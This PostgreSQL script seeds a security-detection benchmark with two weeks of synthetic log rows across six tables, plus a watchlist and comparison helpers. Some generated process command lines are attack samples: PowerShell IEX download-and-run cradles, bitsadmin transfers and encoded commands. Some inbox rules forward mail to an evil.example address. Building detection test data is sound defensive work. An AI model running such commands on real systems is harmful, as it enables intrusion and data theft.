-- What detection.sh reads besides AWSCloudTrail and SigninLogs of generate.c: two weeks of five more
-- tables, a watchlist and fourteen days that are the same on every machine.  :scale is the part of the
-- rows that is made.
SET client_min_messages = error;
SET TimeZone = 'UTC';

-- A number below n that depends on i alone, one of several that k tells apart.
CREATE FUNCTION public.bench_pick(i bigint, k integer, n integer) RETURNS integer
    LANGUAGE sql IMMUTABLE PARALLEL SAFE
    RETURN ((pg_catalog.hashint8extended(i, k) & 9223372036854775807) % n)::integer;

SELECT vigil.create_log_table(t), vigil.create_partitions(t, '2026-03-02', '2026-03-16')
FROM pg_catalog.unnest('{AuditLogs,DeviceNetworkEvents,DeviceProcessEvents,SecurityEvent,ThreatIntelligenceIndicator,OfficeActivity}'::text[]) AS t;

INSERT INTO "AuditLogs" ("TimeGenerated", "OperationName", "Category", "Result", "CorrelationId", "Identity", "LoggedByService", "InitiatedBy", "TargetResources",
    "AdditionalDetails")
SELECT '2026-03-02 00:00Z'::timestamptz + i * interval '14 days' / (60000 * :scale),
    (ARRAY['Consent to application', 'Add member to role', 'Update user', 'Add user', 'Reset user password', 'Update application'])[1 + public.bench_pick(i, 1, 6)],
    (ARRAY['ApplicationManagement', 'RoleManagement', 'UserManagement'])[1 + public.bench_pick(i, 2, 3)],
    CASE WHEN public.bench_pick(i, 3, 50) = 0 THEN 'failure' ELSE 'success' END, md5(i::text), 'admin' || public.bench_pick(i, 4, 40), 'Core Directory',
    jsonb_build_object('user', jsonb_build_object('id', md5((i % 97)::text), 'userPrincipalName', 'admin' || public.bench_pick(i, 4, 40) || '@contoso.example',
        'ipAddress', format('198.18.%s.%s', public.bench_pick(i, 5, 4), public.bench_pick(i, 6, 250)))),
    jsonb_build_array(jsonb_build_object('id', md5((i % 4001)::text), 'displayName', 'App ' || public.bench_pick(i, 7, 3000), 'type', 'ServicePrincipal',
        'userPrincipalName', 'user' || public.bench_pick(i, 8, 2000) || '@contoso.example', 'modifiedProperties', jsonb_build_array(
        jsonb_build_object('displayName', 'Role.DisplayName', 'oldValue', NULL, 'newValue', '"Role ' || public.bench_pick(i, 9, 30) || '"'),
        jsonb_build_object('displayName', 'ConsentAction.Permissions', 'oldValue', '', 'newValue', CASE WHEN public.bench_pick(i, 10, 9) = 0 THEN 'Mail.Read offline_access' ELSE 'openid' END)))),
    jsonb_build_array(jsonb_build_object('key', 'User-Agent', 'value', 'agent/' || public.bench_pick(i, 11, 12)))
FROM generate_series(0, (60000 * :scale)::integer - 1) AS i;

INSERT INTO "DeviceNetworkEvents" ("TimeGenerated", "DeviceName", "DeviceId", "ActionType", "RemoteIP", "RemoteUrl", "RemotePort", "Protocol", "LocalIP",
    "InitiatingProcessFileName", "InitiatingProcessAccountName")
SELECT '2026-03-02 00:00Z'::timestamptz + i * interval '14 days' / (200000 * :scale), 'host' || public.bench_pick(i, 1, 800), md5(public.bench_pick(i, 1, 800)::text),
    CASE WHEN public.bench_pick(i, 2, 20) = 0 THEN 'ConnectionFailed' ELSE 'ConnectionSuccess' END,
    format('203.0.%s.%s', public.bench_pick(i, 3, 200), public.bench_pick(i, 4, 250)),
    CASE WHEN i % 4 = 0 THEN '' ELSE format('https://www%s.site%s.example/path/%s?id=%s', public.bench_pick(i, 5, 9), public.bench_pick(i, 6, 20000), i % 50, i) END,
    (ARRAY[80, 443, 443, 443, 8080, 3389, 22, 4444])[1 + public.bench_pick(i, 7, 8)], 'Tcp', '10.1.' || public.bench_pick(i, 1, 800) % 250 || '.7',
    (ARRAY['chrome.exe', 'msedge.exe', 'powershell.exe', 'svchost.exe', 'rundll32.exe'])[1 + public.bench_pick(i, 8, 5)], 'user' || public.bench_pick(i, 9, 500)
FROM generate_series(0, (200000 * :scale)::integer - 1) AS i;

INSERT INTO "DeviceProcessEvents" ("TimeGenerated", "DeviceName", "DeviceId", "ActionType", "AccountName", "FileName", "FolderPath", "ProcessCommandLine",
    "InitiatingProcessFileName", "InitiatingProcessCommandLine", "ProcessId", "InitiatingProcessId", "SHA256")
SELECT '2026-03-02 00:00Z'::timestamptz + i * interval '14 days' / (120000 * :scale), 'host' || public.bench_pick(i, 1, 800), md5(public.bench_pick(i, 1, 800)::text), 'ProcessCreated',
    'user' || public.bench_pick(i, 2, 500), f, 'C:\Windows\System32\' || f,
    CASE public.bench_pick(i, 4, 40)
        WHEN 0 THEN f || ' -NoProfile -EncodedCommand ' || encode(sha256(i::text::bytea), 'base64')
        WHEN 1 THEN f || ' -c IEX (New-Object Net.WebClient).DownloadString(''https://site' || i % 999 || '.example/a.ps1'')'
        WHEN 2 THEN f || ' /transfer job' || i || ' https://site' || i % 999 || '.example/b.bin C:\Users\Public\b.bin'
        ELSE f || ' --type=renderer --lang=en --field-trial-handle=' || i || ' --user-data-dir="C:\Users\user' || i % 500 || '\AppData\Local"' END,
    CASE public.bench_pick(i, 5, 4) WHEN 0 THEN 'WINWORD.EXE' WHEN 1 THEN 'explorer.exe' ELSE 'cmd.exe' END, 'parent ' || i % 1000, i % 30000, i % 20000, encode(sha256(f::bytea), 'hex')
FROM generate_series(0, (120000 * :scale)::integer - 1) AS i,
    LATERAL (SELECT (ARRAY['powershell.exe', 'PowerShell.EXE', 'chrome.exe', 'bitsadmin.exe', 'cmd.exe', 'rundll32.exe'])[1 + public.bench_pick(i, 3, 6)] AS f) AS x;

INSERT INTO "SecurityEvent" ("TimeGenerated", "EventID", "Computer", "Account", "Activity", "AccountType", "IpAddress", "TargetUserName", "LogonType", "SubjectUserName", "CommandLine",
    "NewProcessName", "EventData")
SELECT '2026-03-02 00:00Z'::timestamptz + i * interval '14 days' / (150000 * :scale), (ARRAY[4624, 4624, 4624, 4625, 4672, 4688, 4688, 4720])[1 + public.bench_pick(i, 1, 8)],
    'dc' || public.bench_pick(i, 2, 60) || '.contoso.example', 'CONTOSO\user' || public.bench_pick(i, 3, 3000), 'An event', 'User',
    format('10.%s.%s.%s', public.bench_pick(i, 4, 4), public.bench_pick(i, 5, 40), public.bench_pick(i, 6, 9)), 'user' || public.bench_pick(i, 3, 3000),
    (ARRAY[2, 3, 3, 3, 5, 10])[1 + public.bench_pick(i, 7, 6)], 'svc' || i % 12, 'C:\Windows\System32\cmd.exe /c whoami', 'C:\Windows\System32\cmd.exe',
    format('Target=%s;Port=%s;Status=0x%s', 'srv' || public.bench_pick(i, 8, 300), public.bench_pick(i, 9, 60000), to_hex(public.bench_pick(i, 10, 9)))
FROM generate_series(0, (150000 * :scale)::integer - 1) AS i;

-- Each indicator is published again every other day.
INSERT INTO "ThreatIntelligenceIndicator" ("TimeGenerated", "IndicatorId", "Active", "ConfidenceScore", "ExpirationDateTime", "Description", "NetworkIP", "DomainName", "ThreatType")
SELECT '2026-03-02 01:00Z'::timestamptz + g * interval '2 days' + i * interval '1 second', md5(i::text), NOT (g = 6 AND i % 10 = 0), 20 + public.bench_pick(i, 1, 80), '2026-06-01 00:00Z',
    'An indicator', CASE i % 3 WHEN 0 THEN format('100.%s.%s.%s', 64, public.bench_pick(i, 2, 80), 1 + public.bench_pick(i, 3, 250)) ELSE '' END,
    CASE i % 3 WHEN 0 THEN '' ELSE format('www%s.site%s.example', public.bench_pick(i, 4, 9), public.bench_pick(i, 5, 20000)) END, 'Malware'
FROM generate_series(0, (4000 * :scale)::integer - 1) AS i, generate_series(0, 6) AS g;

INSERT INTO "OfficeActivity" ("TimeGenerated", "Operation", "UserId", "OfficeWorkload", "ClientIP", "OfficeObjectId", "Parameters", "UserAgent")
SELECT '2026-03-02 00:00Z'::timestamptz + i * interval '14 days' / (150000 * :scale),
    (ARRAY['FileDownloaded', 'FileAccessed', 'FileAccessed', 'FileModified', 'New-InboxRule', 'MailItemsAccessed'])[1 + public.bench_pick(i, 1, 6)],
    'user' || public.bench_pick(i, 2, 2000) || '@contoso.example', 'SharePoint',
    format('%s.%s.%s.%s', 100 + public.bench_pick(i, 3, 5), 64, public.bench_pick(i, 4, 20), public.bench_pick(i, 5, 200)) || CASE WHEN i % 3 = 0 THEN ':' || 1024 + i % 50000 ELSE '' END,
    'https://contoso.example/sites/s' || i % 300 || '/f' || i % 7001 || '.docx',
    '[{"Name": "From", "Value": "' || i % 20 || '"}, {"Name": "ForwardTo", "Value": "smtp:x' || i % 900 || '@evil.example"}]', 'agent/' || public.bench_pick(i, 6, 30)
FROM generate_series(0, (150000 * :scale)::integer - 1) AS i;

CREATE TABLE public."HighValue" ("User" text NOT NULL DEFAULT '', "Tier" text NOT NULL DEFAULT '', "Owner" text NOT NULL DEFAULT '');
INSERT INTO public."HighValue" SELECT 'user' || i || '@contoso.example', 'tier' || i % 3, 'owner' || i % 17 FROM generate_series(0, 4990, 10) AS i;
SELECT vigil.create_watchlist('HighValue', 'public."HighValue"', 'User');

-- One value of a result, however it was made: what a set holds is compared without its order.
CREATE FUNCTION public.bench_value(v jsonb) RETURNS jsonb LANGUAGE sql IMMUTABLE
    RETURN CASE jsonb_typeof(v) WHEN 'array' THEN (SELECT coalesce(jsonb_agg(e ORDER BY e), '[]') FROM jsonb_array_elements(v) AS x (e))
        WHEN 'number' THEN to_jsonb(round(v::numeric, 6)) WHEN 'null' THEN '""' ELSE v END;
CREATE FUNCTION public.bench_row(r json) RETURNS jsonb LANGUAGE sql IMMUTABLE
    RETURN (SELECT jsonb_agg(public.bench_value(f.value::jsonb) ORDER BY f.ordinality) FROM json_each(r) WITH ORDINALITY AS f (key, value, ordinality));
